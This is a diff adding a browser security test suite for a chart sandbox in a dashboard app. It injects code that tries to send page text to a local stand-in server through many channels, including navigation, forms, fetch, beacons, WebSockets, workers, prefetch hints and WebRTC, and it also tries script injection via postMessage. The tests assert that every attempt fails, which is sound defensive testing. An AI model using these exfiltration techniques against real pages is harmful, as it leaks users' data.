@@ -1,0 +1,170 @@
+import { createSocket } from 'node:dgram'
+import { createServer } from 'node:http'
+import type { AddressInfo } from 'node:net'
+import { setTimeout as sleep } from 'node:timers/promises'
+import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest'
+import { allDrawn, sceneWith, serveScenes, textOf, useBrowser, widget } from './support.ts'
+
+const { open } = useBrowser()
+
+/** Somebody else's server, and what it received. */
+const received: string[] = []
+const connections: string[] = []
+const away = createServer((request, response) => {
+  received.push(request.url ?? '')
+  response.writeHead(200, { 'content-type': 'text/html', 'access-control-allow-origin': '*' }).end('<p>away</p>')
+})
+away.on('connection', () => connections.push('a connection'))
+beforeAll(() => new Promise<void>((done) => away.listen(0, '127.0.0.1', done)))
+afterAll(() => away.close())
+beforeEach(() => {
+  for (const each of [received, connections]) each.length = 0
+})
+const AWAY = (): string => `http://127.0.0.1:${(away.address() as AddressInfo).port}`
+
+const spec = {
+  data: { values: [{ a: 1 }, { a: 2 }] },
+  mark: 'bar',
+  encoding: { x: { field: 'a', type: 'ordinal' }, y: { field: 'a', type: 'quantitative' } },
+}
+const SCENE = sceneWith([widget('chart', 'CHART', [0, 0, 12, 5], { report: 'chart' })], {
+  chart: { name: 'Chart', kind: 'vega', spec },
+})
+const SCRIPT = /\/viewer\/[^/]*\.js$/
+/** In characters: only the script that holds the chart library, and so runs what charts say, is longer. */
+const OTHERS = 500_000
+
+const whenDrawn = (code: string): string =>
+  `{const wait = setInterval(() => { if (document.querySelector('svg.marks')) { clearInterval(wait); ${code} } }, 50)}`
+
+/**
+ * A page with a chart, in which code runs with everything that the code of charts has, as if it had broken out of the
+ * interpreter of expressions. `send` makes an address of what it can read.
+ */
+async function pageWith(code: string) {
+  const { url, close } = await serveScenes({ board: SCENE })
+  const { page } = await open('about:blank')
+  const send = `const send = (how) => '${AWAY()}/' + how + '?' + encodeURIComponent(document.body.textContent)`
+  await page.route(SCRIPT, async (route) => {
+    const response = await route.fetch()
+    const text = await response.text()
+    const added = text.length > OTHERS ? `\n;${whenDrawn(`${send};${code}`)}` : ''
+    await route.fulfill({ response, body: `${text}${added}` })
+  })
+  await page.goto(`${url}/#/board`)
+  await allDrawn(page, 'board')
+  return {
+    page,
+    url,
+    async end() {
+      await page.unroute(SCRIPT)
+      await page.goto('about:blank')
+      await close()
+    },
+  }
+}
+
+describe('code that broke out of a chart', () => {
+  test.each([
+    ['the address of the page', `top.location = send('top')`],
+    ['the address of its own frame', `location.href = send('own')`],
+    [
+      'a link out of the frame',
+      `const a = document.createElement('a'); a.href = send('link'); a.target = '_top'; document.body.append(a); a.click()`,
+    ],
+    [
+      'a link to a new page',
+      `const a = document.createElement('a'); a.href = send('blank'); a.target = '_blank'; document.body.append(a); a.click()`,
+    ],
+    ['a new page', `window.open(send('open'))`],
+    [
+      'a form',
+      `const form = document.createElement('form'); form.action = send('form'); form.target = '_top'; document.body.append(form); form.submit()`,
+    ],
+    [
+      'a refresh',
+      `const meta = document.createElement('meta'); meta.httpEquiv = 'refresh'; meta.content = '0;url=' + send('refresh'); document.head.append(meta)`,
+    ],
+    [
+      'a frame',
+      `const frame = document.createElement('iframe'); frame.src = send('frame'); document.body.append(frame)`,
+    ],
+    [
+      'a page in a frame',
+      `const frame = document.createElement('iframe'); document.body.append(frame); frame.contentWindow.location = send('inner')`,
+    ],
+    ['an image', `new Image().src = send('image')`],
+    ['a request', `fetch(send('fetch'), { mode: 'no-cors' }).catch(() => {})`],
+    ['a beacon', `navigator.sendBeacon(send('beacon'), 'x')`],
+    ['a socket', `new WebSocket(send('socket').replace('http', 'ws'))`],
+    [
+      'a script',
+      `const script = document.createElement('script'); script.src = send('script'); document.head.append(script)`,
+    ],
+    [
+      'a style',
+      `const link = document.createElement('link'); link.rel = 'stylesheet'; link.href = send('style'); document.head.append(link)`,
+    ],
+    [
+      'hints',
+      `for (const rel of ['prefetch', 'preload', 'preconnect', 'prerender', 'dns-prefetch', 'modulepreload']) { const link = document.createElement('link'); link.rel = rel; link.as = 'fetch'; link.href = send(rel); document.head.append(link) }`,
+    ],
+    ['a worker', `new Worker(URL.createObjectURL(new Blob(['fetch("' + send('worker') + '")'])))`],
+    [
+      'speculation',
+      `const rules = document.createElement('script'); rules.type = 'speculationrules'; rules.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: [send('speculation')] }] }); document.head.append(rules)`,
+    ],
+  ])('reaches nobody with %s', async (what, code) => {
+    const { page, url, end } = await pageWith(code)
+    try {
+      await sleep(1_200)
+      expect(received).toEqual([])
+      // Chromium connects ahead of a navigation of the frame itself, and only then asks whether it is allowed.
+      if (what !== 'the address of its own frame') expect(connections).toEqual([])
+      expect(page.url()).toBe(`${url}/#/board`)
+      expect(page.context().pages()).toHaveLength(1)
+      await expect.poll(() => textOf(page, 'chart')).toContain('Chart')
+    } finally {
+      await end()
+    }
+  })
+
+  test('finds no way past the web', async () => {
+    const heard: string[] = []
+    const stun = createSocket('udp4').on('message', () => heard.push('a message'))
+    await new Promise<void>((done) => stun.bind(0, '127.0.0.1', done))
+    const { page, end } = await pageWith(`
+      const frame = document.createElement('iframe')
+      document.body.append(frame)
+      for (const from of [window, frame.contentWindow]) try {
+        const link = new from.RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${stun.address().port}' }] })
+        link.createDataChannel('x')
+        link.createOffer().then((offer) => link.setLocalDescription(offer))
+      } catch (e) { console.log(String(e)) }`)
+    try {
+      await sleep(3_000)
+      expect(heard).toEqual([])
+      await expect.poll(() => textOf(page, 'chart')).toContain('Chart')
+    } finally {
+      await end()
+      stun.close()
+    }
+  })
+
+  test('reads nothing of the page, and cannot put anything that acts into it', async () => {
+    const { page, end } = await pageWith(`
+      const forbidden = { tag: 'svg', attributes: {}, children: [{ tag: 'script', attributes: {}, children: ['top.hit = 1'] }] }
+      const acting = { tag: 'svg', attributes: { onload: 'top.hit = 2' }, children: [] }
+      try { parent.document.body.textContent = 'gone'; parent.hit = 3 } catch {}
+      for (let id = 0; id < 20; id += 1)
+        for (const shape of [forbidden, acting]) parent.postMessage({ boardwright: 1, say: 'drawn', id, drawing: { shape } }, '*')`)
+    try {
+      await sleep(600)
+      expect(await page.evaluate('window.hit')).toBeUndefined()
+      await expect.poll(() => textOf(page, 'chart')).toContain('This cannot be drawn')
+      await expect.poll(() => page.locator('.bw-vega script, .bw-vega [onload]').count()).toBe(0)
+    } finally {
+      await end()
+    }
+  })
+})
